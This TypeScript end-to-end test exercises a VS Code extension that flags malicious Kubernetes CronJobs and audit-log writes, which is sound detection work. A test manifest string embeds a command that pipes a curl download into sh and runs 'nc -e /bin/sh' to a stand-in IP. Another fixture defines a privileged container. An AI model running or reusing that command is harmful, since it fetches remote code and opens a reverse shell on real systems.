// The packaged extension in a real VS Code (code-server + headless Chromium), driven as a person
// would: open a malicious CronJob, read the problem count and the hover, apply the quick fix, scan an
// audit log from the command palette and open a result, export SARIF. Twice: in the Node extension
// host (desktop VS Code's `main` entry) and in the browser's web-worker extension host (VS Code for
// the web's `browser` entry, with the server in a nested worker). Screenshots: artifacts/vscode/<host>/.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { copyFile, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { analyseManifest, parseConfig } from '@jobsentinel/core';
import { CHROMIUM_PATH, launchChromium } from '../browser/chromium.mjs';
import { writeAuditLog } from '../../bench/lib/generate-audit-log.mjs';
import { ROOT } from '../lsp/session.js';
import { requireCodeServer, startCodeServer, type CodeServer } from './code-server.js';

const VSIX = join(ROOT, 'extension/jobsentinel-0.1.0.vsix');
const FIXTURES = join(ROOT, 'test/fixtures/editor');
const HOSTS = {
  desktop: { settings: {}, runsIn: /127\.0\.0\.1/ },
  // An extension of kind "ui" runs on the browser side, i.e. in VS Code for the web's worker host.
  web: { settings: { 'remote.extensionKind': { 'jobsentinel.jobsentinel-vscode': ['ui'] } }, runsIn: /web worker/ },
};
const SETTINGS = {
  'workbench.startupEditor': 'none',
  'workbench.tips.enabled': false,
  'workbench.enableExperiments': false,
  'extensions.autoUpdate': false,
  'extensions.autoCheckUpdates': false,
  'extensions.ignoreRecommendations': true,
  'telemetry.telemetryLevel': 'off',
  'files.simpleDialog.enable': true,
  'editor.hover.delay': 100,
};

let server: CodeServer;
let browser: Awaited<ReturnType<typeof launchChromium>>;
let page: Page;
let workspace: string;
let artifacts: string;

async function screenshot(name: string): Promise<void> {
  await page.screenshot({ path: join(artifacts, `${name}.png`) });
}

/** The Problems item of the status bar: "Errors: 4, Warnings: 2, Infos: 1". */
async function problemCounts(): Promise<string> {
  return (await page.locator('#status\\.problems').getAttribute('aria-label')) ?? '';
}

/** The workspace's config: the image finding becomes a hint, which the Problems counts leave out. */
const WORKSPACE_CONFIG = 'severity:\n  attacker-tooling: hint\n';

/** A Job in a subfolder that no test opens: only the workspace-wide scan can put its finding in Problems. */
const NEVER_OPENED = 'apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: node-debug\nspec:\n  template:\n    spec:\n      containers:\n        - name: debug\n          image: registry.example.com/tools/debug:1.4\n          securityContext:\n            privileged: true\n';

/** One command line, four findings over the same string: a download piped into a shell, and nc -e. */
const MULTI = [
  'apiVersion: batch/v1',
  'kind: Job',
  'metadata:',
  '  name: multi',
  'spec:',
  '  template:',
  '    spec:',
  '      containers:',
  '        - name: x',
  '          image: registry.example.com/tools/runner:1.0',
  '          command: ["sh", "-c", "curl -s http://203.0.113.9/x.sh | sh; nc -e /bin/sh 203.0.113.9 4444"]',
  '',
].join('\n');

/** What the Problems item should count for the fixture, by the core under the workspace's config. */
function expectedCounts(...texts: string[]): { errors: number; warnings: number; infos: number } {
  const config = parseConfig(WORKSPACE_CONFIG, '.jobsentinel.yaml').config;
  const findings = texts.flatMap((text) => analyseManifest(text, 'cronjob.yaml', { config }).findings);
  const count = (severity: string) => findings.filter((finding) => finding.severity === severity).length;
  return { errors: count('error'), warnings: count('warning'), infos: count('information') };
}

/** Reads "Errors: 4, Warnings: 2, Infos: 1" (a zero count may be left out) in the page. */
function countsIn(label: string): { errors: number; warnings: number; infos: number } {
  const read = (name: string) => Number(new RegExp(`${name}: (\\d+)`).exec(label)?.[1] ?? 0);
  return { errors: read('Errors'), warnings: read('Warnings'), infos: read('Infos') };
}

async function runCommand(title: string): Promise<void> {
  await page.keyboard.press('F1');
  const input = page.locator('.quick-input-widget input');
  await input.waitFor({ state: 'visible' });
  await input.fill(`>${title}`);
  await page.locator('.quick-input-widget .monaco-list-row', { hasText: title }).first().waitFor();
  await page.keyboard.press('Enter');
}

async function goTo(line: number, column: number): Promise<void> {
  await page.keyboard.press('Control+G');
  const input = page.locator('.quick-input-widget input');
  await input.waitFor({ state: 'visible' });
  await input.fill(`:${line}:${column}`);
  await page.keyboard.press('Enter');
  await page.locator('#status\\.editor\\.selection', { hasText: `Ln ${line}, Col ${column}` }).waitFor();
}

before(() => {
  requireCodeServer();
  assert.ok(existsSync(CHROMIUM_PATH), `Chromium is required for this test and was not found at ${CHROMIUM_PATH}: apt-get install -y chromium`);
  // The test installs what a user would: the .vsix, packaged from the current build.
  const packaged = spawnSync('pnpm', ['--filter', './extension', 'run', 'package'], { cwd: ROOT, encoding: 'utf8' });
  assert.equal(packaged.status, 0, `packaging the extension failed (run pnpm build first): ${packaged.stdout}${packaged.stderr}`);
  assert.ok(existsSync(VSIX), `${VSIX} is missing after packaging`);
});

for (const [host, { settings, runsIn }] of Object.entries(HOSTS)) describe(`the extension in VS Code (code-server), ${host} extension host`, { timeout: 300_000 }, () => {
  before(async () => {
    artifacts = join(ROOT, 'artifacts/vscode', host);
    await mkdir(artifacts, { recursive: true });
    workspace = await mkdtemp(join(tmpdir(), 'jobsentinel-vscode-ws-'));
    await copyFile(join(FIXTURES, 'reverse-shell-cronjob.yaml'), join(workspace, 'cronjob.yaml'));
    await copyFile(join(FIXTURES, 'deployment.yaml'), join(workspace, 'deployment.yaml'));
    await copyFile(join(FIXTURES, 'audit-sample.log'), join(workspace, 'audit.log'));
    await writeFile(join(workspace, '.jobsentinel.yaml'), WORKSPACE_CONFIG);
    await mkdir(join(workspace, 'jobs/nightly'), { recursive: true });
    await writeFile(join(workspace, 'jobs/nightly/never-opened-job.yaml'), NEVER_OPENED);
    server = await startCodeServer({ workspace, settings: { ...SETTINGS, ...settings }, installVsix: VSIX });
    browser = await launchChromium({ viewport: { width: 1400, height: 900 } });
    page = browser.page;
    await page.goto(`${server.url}?folder=${encodeURIComponent(workspace)}`);
    await page.locator('.monaco-workbench').waitFor({ timeout: 90_000 });
  });

  after(async () => {
    if (page) await screenshot('99-last').catch(() => undefined);
    await browser?.close();
    await server?.stop();
    if (workspace) await rm(workspace, { recursive: true, force: true });
  });

  // The web-worker server has no file system to walk: there, only open files are checked.
  if (host === 'desktop') {
    it('puts the finding of a manifest that was never opened into the Problems panel (workspace scope)', async () => {
      await page.keyboard.press('Control+Shift+M');
      const row = page.locator('.markers-panel .monaco-list-row', { hasText: 'never-opened-job.yaml' });
      await row.waitFor({ timeout: 90_000 });
      await page.locator('.markers-panel .monaco-list-row', { hasText: 'runs privileged' }).first().waitFor({ timeout: 15_000 });
      await screenshot('00-workspace-scan');
      await page.keyboard.press('Control+Shift+M');
    });
  }

  it('flags the malicious CronJob: problem count, status bar and the hover on the squiggle', async () => {
    const text = await readFile(join(FIXTURES, 'reverse-shell-cronjob.yaml'), 'utf8');
    await page.locator('.explorer-folders-view .monaco-list-row', { hasText: 'cronjob.yaml' }).click();
    await page.locator('.monaco-editor .view-lines').first().waitFor();
    const expected = host === 'desktop' ? expectedCounts(text, NEVER_OPENED) : expectedCounts(text);
    assert.equal(expected.infos, 0, 'the workspace config turned the information finding into a hint');
    await page.waitForFunction(
      ({ errors, warnings }) => {
        const label = document.querySelector('#status\\.problems')?.getAttribute('aria-label') ?? '';
        return label.includes(`Errors: ${errors}`) && label.includes(`Warnings: ${warnings}`);
      },
      expected,
      { timeout: 90_000 },
    );
    assert.deepEqual(countsIn(await problemCounts()), expected);
    const status = page.locator('.statusbar-item', { hasText: 'JobSentinel:' });
    assert.match((await status.textContent()) ?? '', /JobSentinel: \d+ errors?, \d+ warnings?/);
    await screenshot('01-diagnostics');

    // `privileged: true` on line 21: the squiggle's hover
    await goTo(21, 30);
    await page.keyboard.press('Control+K');
    await page.keyboard.press('Control+I');
    const hover = page.locator('.monaco-hover:visible', { hasText: 'JobSentinel: Privileged container' });
    await hover.waitFor({ timeout: 15_000 });
    const hoverText = (await hover.textContent()) ?? '';
    assert.match(hoverText, /Found: Container "rotate" runs privileged/);
    assert.match(hoverText, /MITRE ATT&CK T1053\.007/);
    assert.match(hoverText, /False positives:/);
    assert.match(hoverText, /# jobsentinel-ignore: privileged-container/);
    await screenshot('02-hover');
    await page.keyboard.press('Escape');
  });

  it('applies the "Set privileged: false" quick fix, and the re-check drops the problem', async () => {
    const before = await problemCounts();
    await goTo(21, 30);
    await page.keyboard.press('Control+.');
    const actions = page.locator('.action-widget .monaco-list-row.action');
    await actions.first().waitFor({ timeout: 15_000 });
    const titles = await actions.evaluateAll((rows) => rows.map((row) => row.getAttribute('aria-label')));
    assert.ok(titles.includes('Set privileged: false'), `offered: ${titles.join('; ')}`);
    assert.ok(titles.some((title) => title?.includes('# jobsentinel-ignore')));
    assert.ok(titles.some((title) => title?.includes('jobsentinel.io/ignore')));
    await screenshot('03-quick-fixes');
    // The preferred fix is focused first; walk to it in case the order changes.
    for (let step = 0; step < titles.length; step++) {
      if ((await page.locator('.action-widget .monaco-list-row.focused').getAttribute('aria-label')) === 'Set privileged: false') break;
      await page.keyboard.press('ArrowDown');
    }
    await page.keyboard.press('Enter');
    await page.locator('.view-line', { hasText: 'privileged: false' }).waitFor({ timeout: 15_000 });
    const errorsBefore = Number(/Errors: (\d+)/.exec(before)![1]);
    await page.waitForFunction(
      (errors) => document.querySelector('#status\\.problems')?.getAttribute('aria-label')?.startsWith(`Errors: ${errors},`),
      errorsBefore - 1,
      { timeout: 30_000 },
    );
    await screenshot('04-fixed');
  });

  it('scans an audit log from the command palette and opens a result at its line', async () => {
    const errorsBeforeScan = Number(/Errors: (\d+)/.exec(await problemCounts())![1]);
    await runCommand('JobSentinel: Scan Audit Log File…');
    // code-server's file picker is VS Code's simple dialog: a path in the quick input.
    const dialog = page.locator('.quick-input-widget', { hasText: 'JobSentinel: Scan Audit Log File' });
    await dialog.locator('.monaco-list-row', { hasText: 'audit.log' }).click();
    // Picking a file accepts it; if this VS Code only fills the path in, accept with Enter.
    const accepted = await dialog.waitFor({ state: 'hidden', timeout: 5_000 }).then(() => true, () => false);
    if (!accepted) await page.keyboard.press('Enter');
    const toast = page.locator('.notification-toast', { hasText: 'suspicious job write' });
    await toast.waitFor({ timeout: 60_000 });
    assert.match((await toast.textContent()) ?? '', /audit\.log: 1 suspicious job write in 2 job writes \(3 events\)/);
    await screenshot('05-audit-scanned');
    await toast.locator('.monaco-button', { hasText: 'Show Results' }).click();

    const view = page.locator('.pane', { has: page.locator('.pane-header', { hasText: 'Audit Log Results' }) });
    // Incidents lead: the CronJob, with its indicators; under it, its requests.
    const incident = view.locator('.monaco-list-row', { hasText: 'CronJob kube-system/log-rotate' });
    await incident.waitFor({ timeout: 15_000 });
    assert.match((await incident.textContent()) ?? '', /1 suspicious write .*privileged-container/);
    const rows = await view.locator('.monaco-list-row').allTextContents();
    assert.ok(rows.some((row) => row.includes('shell-escape')), `rows: ${rows.join(' | ')}`);
    const match = view.locator('.monaco-list-row', { hasText: 'create cronjobs kube-system/log-rotate' }).first();
    assert.match((await match.textContent()) ?? '', /line 3/);
    await screenshot('06-audit-results');

    await match.click();
    await page.locator('.tab.active', { hasText: 'audit.log' }).waitFor({ timeout: 15_000 });
    await page.locator('#status\\.editor\\.selection', { hasText: 'Ln 3, Col 1' }).waitFor({ timeout: 15_000 });
    // The log itself carries the findings as diagnostics: 4 on the event's line (a shell-escape pair, privileged, host network).
    await page.waitForFunction(
      (before) => Number(/Errors: (\d+)/.exec(document.querySelector('#status\\.problems')?.getAttribute('aria-label') ?? '')?.[1]) >= before + 3,
      errorsBeforeScan,
      { timeout: 15_000 },
    );
    assert.match((await page.locator('.statusbar-item', { hasText: 'JobSentinel:' }).textContent()) ?? '', /audit: 1 match/);
    await screenshot('07-audit-log-opened');
  });

  it('exports the workspace findings as SARIF to a chosen file', async () => {
    await runCommand('JobSentinel: Export Findings');
    const picker = page.locator('.quick-input-widget');
    await picker.locator('.monaco-list-row', { hasText: 'Manifests in the workspace' }).click();
    await picker.locator('.monaco-list-row', { hasText: 'SARIF 2.1.0' }).click();
    // The save dialog (simple dialog) proposes jobsentinel.sarif in the workspace folder.
    await page.waitForFunction(() => (document.querySelector('.quick-input-widget input') as HTMLInputElement | null)?.value.endsWith('/jobsentinel.sarif'));
    await page.keyboard.press('Enter');
    await page.locator('.notification-toast', { hasText: 'JobSentinel: exported' }).waitFor({ timeout: 60_000 });
    await screenshot('08-exported');
    const sarif = JSON.parse(await readFile(join(workspace, 'jobsentinel.sarif'), 'utf8')) as {
      version: string;
      runs: Array<{ results: Array<{ ruleId: string; locations: Array<{ physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number } } }> }> }>;
    };
    assert.equal(sarif.version, '2.1.0');
    const shell = sarif.runs[0].results.find((result) => result.ruleId === 'shell-escape');
    assert.ok(shell, `results: ${sarif.runs[0].results.map((result) => result.ruleId).join(', ')}`);
    assert.equal(shell.locations[0].physicalLocation.artifactLocation.uri, 'cronjob.yaml');
    assert.equal(shell.locations[0].physicalLocation.region.startLine, 19);
    assert.ok(!sarif.runs[0].results.some((result) => result.locations[0].physicalLocation.artifactLocation.uri === 'deployment.yaml'));
  });

  // The web host reads a file whole through the remote file system; streaming with cancel is the desktop path.
  if (host === 'desktop') {
    it('cancels a long audit-log scan from its progress notification', async () => {
      await writeAuditLog(join(workspace, 'large-audit.log'), { targetBytes: 250e6, seed: 3 });
      await runCommand('JobSentinel: Scan Audit Log File…');
      const dialog = page.locator('.quick-input-widget', { hasText: 'JobSentinel: Scan Audit Log File' });
      await dialog.locator('.monaco-list-row', { hasText: 'large-audit.log' }).click();
      const accepted = await dialog.waitFor({ state: 'hidden', timeout: 5_000 }).then(() => true, () => false);
      if (!accepted) await page.keyboard.press('Enter');
      const progress = page.locator('.notification-toast', { hasText: 'JobSentinel: scanning large-audit.log' });
      await progress.locator('.monaco-button', { hasText: 'Cancel' }).click({ timeout: 30_000 });
      const outcome = page.locator('.notification-toast', { hasText: 'JobSentinel (cancelled): large-audit.log' });
      await outcome.waitFor({ timeout: 30_000 });
      // What was scanned before the cancel is kept and said to be partial.
      assert.match((await outcome.textContent()) ?? '', /\(cancelled\): large-audit\.log: \d+ suspicious job writes? in \d+ job writes \(\d+ events\)/);
      await screenshot('10-scan-cancelled');
      await rm(join(workspace, 'large-audit.log'));
    });
  }

  it('keeps the hover short when several findings share a spot: one line each, details behind links', async () => {
    await writeFile(join(workspace, 'multi.yaml'), MULTI);
    await page.keyboard.press('Control+P');
    const input = page.locator('.quick-input-widget input');
    await input.waitFor({ state: 'visible' });
    await input.fill('multi.yaml');
    await page.locator('.quick-input-widget .monaco-list-row', { hasText: 'multi.yaml' }).first().waitFor({ timeout: 15_000 });
    await page.keyboard.press('Enter');
    await page.locator('.tab.active', { hasText: 'multi.yaml' }).waitFor({ timeout: 15_000 });
    await goTo(11, 50);
    const hover = page.locator('.monaco-hover:visible', { hasText: 'findings here' });
    // The diagnostics arrive a moment after the file opens: ask for the hover until it shows them.
    for (let attempt = 0; attempt < 20 && !(await hover.isVisible()); attempt++) {
      await page.keyboard.press('Control+K');
      await page.keyboard.press('Control+I');
      await hover.waitFor({ timeout: 1_500 }).catch(() => undefined);
    }
    const text = (await hover.textContent()) ?? '';
    assert.match(text, /JobSentinel: 4 findings here/);
    assert.equal((text.match(/details/g) ?? []).length, 4, text);
    assert.doesNotMatch(text, /Why it matters|False positives/);
    await screenshot('11-compact-hover');
    await page.keyboard.press('Escape');
  });

  it(`ran in the ${host} extension host`, async () => {
    await runCommand('Developer: Show Running Extensions');
    const row = page.locator('.runtime-extensions-editor .monaco-list-row', { hasText: 'JobSentinel' });
    await row.waitFor({ timeout: 15_000 });
    assert.match((await row.textContent()) ?? '', runsIn);
    await screenshot('09-running-extensions');
  });
});
